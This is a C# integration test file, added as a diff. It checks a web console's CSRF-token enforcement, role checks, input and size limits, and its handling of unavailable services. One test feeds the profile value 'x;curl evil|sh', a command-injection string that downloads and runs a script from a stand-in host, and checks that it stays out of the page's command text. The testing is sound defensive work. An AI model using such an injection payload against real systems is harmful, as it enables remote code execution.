@@ -1,0 +1,108 @@
+using System.Net;
+using Overture.Console.Tests.Fakes;
+using Overture.Platform.Tls;
+
+namespace Overture.Console.Tests;
+
+/// <summary>Acts as they are sent: what is refused without a form of ours, of a viewer, and what happens where a service is away.</summary>
+[Trait("Category", "integration")]
+[Collection(ConsoleCollection.Name)]
+public sealed class ActTests(ConsoleFixture world)
+{
+    private static readonly string Name = Scene.Named(21);
+
+    public static TheoryData<string, string> Acts => new()
+    {
+        { "/launch", "profile=web&count=1&request_id=forged" },
+        { $"/definitions/{Name}/edit", "document=x&etag=v1&step=save&reason=forged" },
+        { $"/definitions/{Name}/delete", "etag=v1&reason=forged" }, { "/layers/edit", "document=x&etag=v1&step=save&reason=forged" },
+        { $"/certificates/name/{Name}/revoke", "reason=forged" }, { "/certificates/serial/4f01/revoke", "reason=forged" },
+    };
+
+    [Theory, MemberData(nameof(Acts))]
+    public async Task WithoutTheToken_NothingIsDone(string address, string fields)
+    {
+        using var client = await world.SignedIn("kim");
+        using var answer = await Post(client, address, fields);
+        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
+        Assert.DoesNotContain(world.World.Acts, a => a.Contains("forged", StringComparison.Ordinal));
+    }
+
+    [Theory, MemberData(nameof(Acts))]
+    public async Task OfAViewer_TheServiceRefusesIt(string address, string fields)
+    {
+        using var client = await world.SignedIn("vi");
+        using var answer = await Post(client, address, $"{fields}&form_token={Uri.EscapeDataString(await Token(client))}");
+        Assert.Equal(HttpStatusCode.Forbidden, answer.StatusCode);
+        Assert.Contains("ROLE_MISSING", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        Assert.DoesNotContain(world.World.Acts, a => a.Contains("forged", StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("0"), InlineData("101"), InlineData("x"), InlineData("")]
+    public async Task Launch_OfNoGoodNumber_IsRefused(string count)
+    {
+        using var client = await world.SignedIn("kim");
+        using var answer = await Post(client, "/launch",
+            $"profile=web&request_id=r&count={count}&form_token={Uri.EscapeDataString(await Token(client))}");
+        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
+        Assert.Contains("must be 1 to 100", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task LargestDefinition_IsTaken_ALargerFormIsNot()
+    {
+        using var client = await world.SignedIn("kim");
+        var token = Uri.EscapeDataString(await Token(client));
+        // Each of these bytes is three in a form.
+        var large = string.Concat(Enumerable.Repeat("%23", 256 * 1024));
+        using var answer = await Post(client, $"/definitions/{Scene.Named(22)}/edit", $"etag=v1&document={large}&form_token={token}");
+        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
+        using var larger = await Post(client, $"/definitions/{Scene.Named(22)}/edit",
+            $"etag=v1&document={large}{large}&form_token={token}");
+        Assert.Equal(HttpStatusCode.BadRequest, larger.StatusCode);
+        Assert.Contains("more bytes than are taken here", await larger.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Profile_OfAHostileName_ComesIntoNoCommand()
+    {
+        using var client = await world.SignedIn("kim");
+        var page = await client.GetStringAsync($"/launch?profile={Uri.EscapeDataString("x;curl evil|sh")}");
+        Assert.DoesNotContain("curl", page.Split("<footer")[1].Split("<span class=\"formats\"")[0], StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task New_BeginsEmpty_AndWritesNothingByLooking()
+    {
+        using var client = await world.SignedIn("kim");
+        using var way = await client.GetAsync($"/definitions?edit={Scene.Undefined}");
+        Assert.Equal($"/definitions/{Scene.Undefined}/edit", $"{way.Headers.Location}");
+        Assert.Contains("New: ", await client.GetStringAsync($"{way.Headers.Location}"), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task ServiceAway_IsSaid()
+    {
+        using var client = await world.SignedIn("kim");
+        world.World.Away[Role.Conductor] = true;
+        try
+        {
+            Assert.Contains("The list of profiles is not to be had now", await client.GetStringAsync("/launch?profile=web"),
+                StringComparison.Ordinal);
+        }
+        finally
+        {
+            world.World.Away.Clear();
+        }
+    }
+
+    private static async Task<string> Token(HttpClient client) =>
+        WebUtility.HtmlDecode((await client.GetStringAsync("/health")).Split("name=\"form_token\" value=\"")[1].Split('"')[0]);
+
+    private static async Task<HttpResponseMessage> Post(HttpClient client, string address, string fields)
+    {
+        using var body = new StringContent(fields, null, "application/x-www-form-urlencoded");
+        return await client.PostAsync(address, body);
+    }
+}
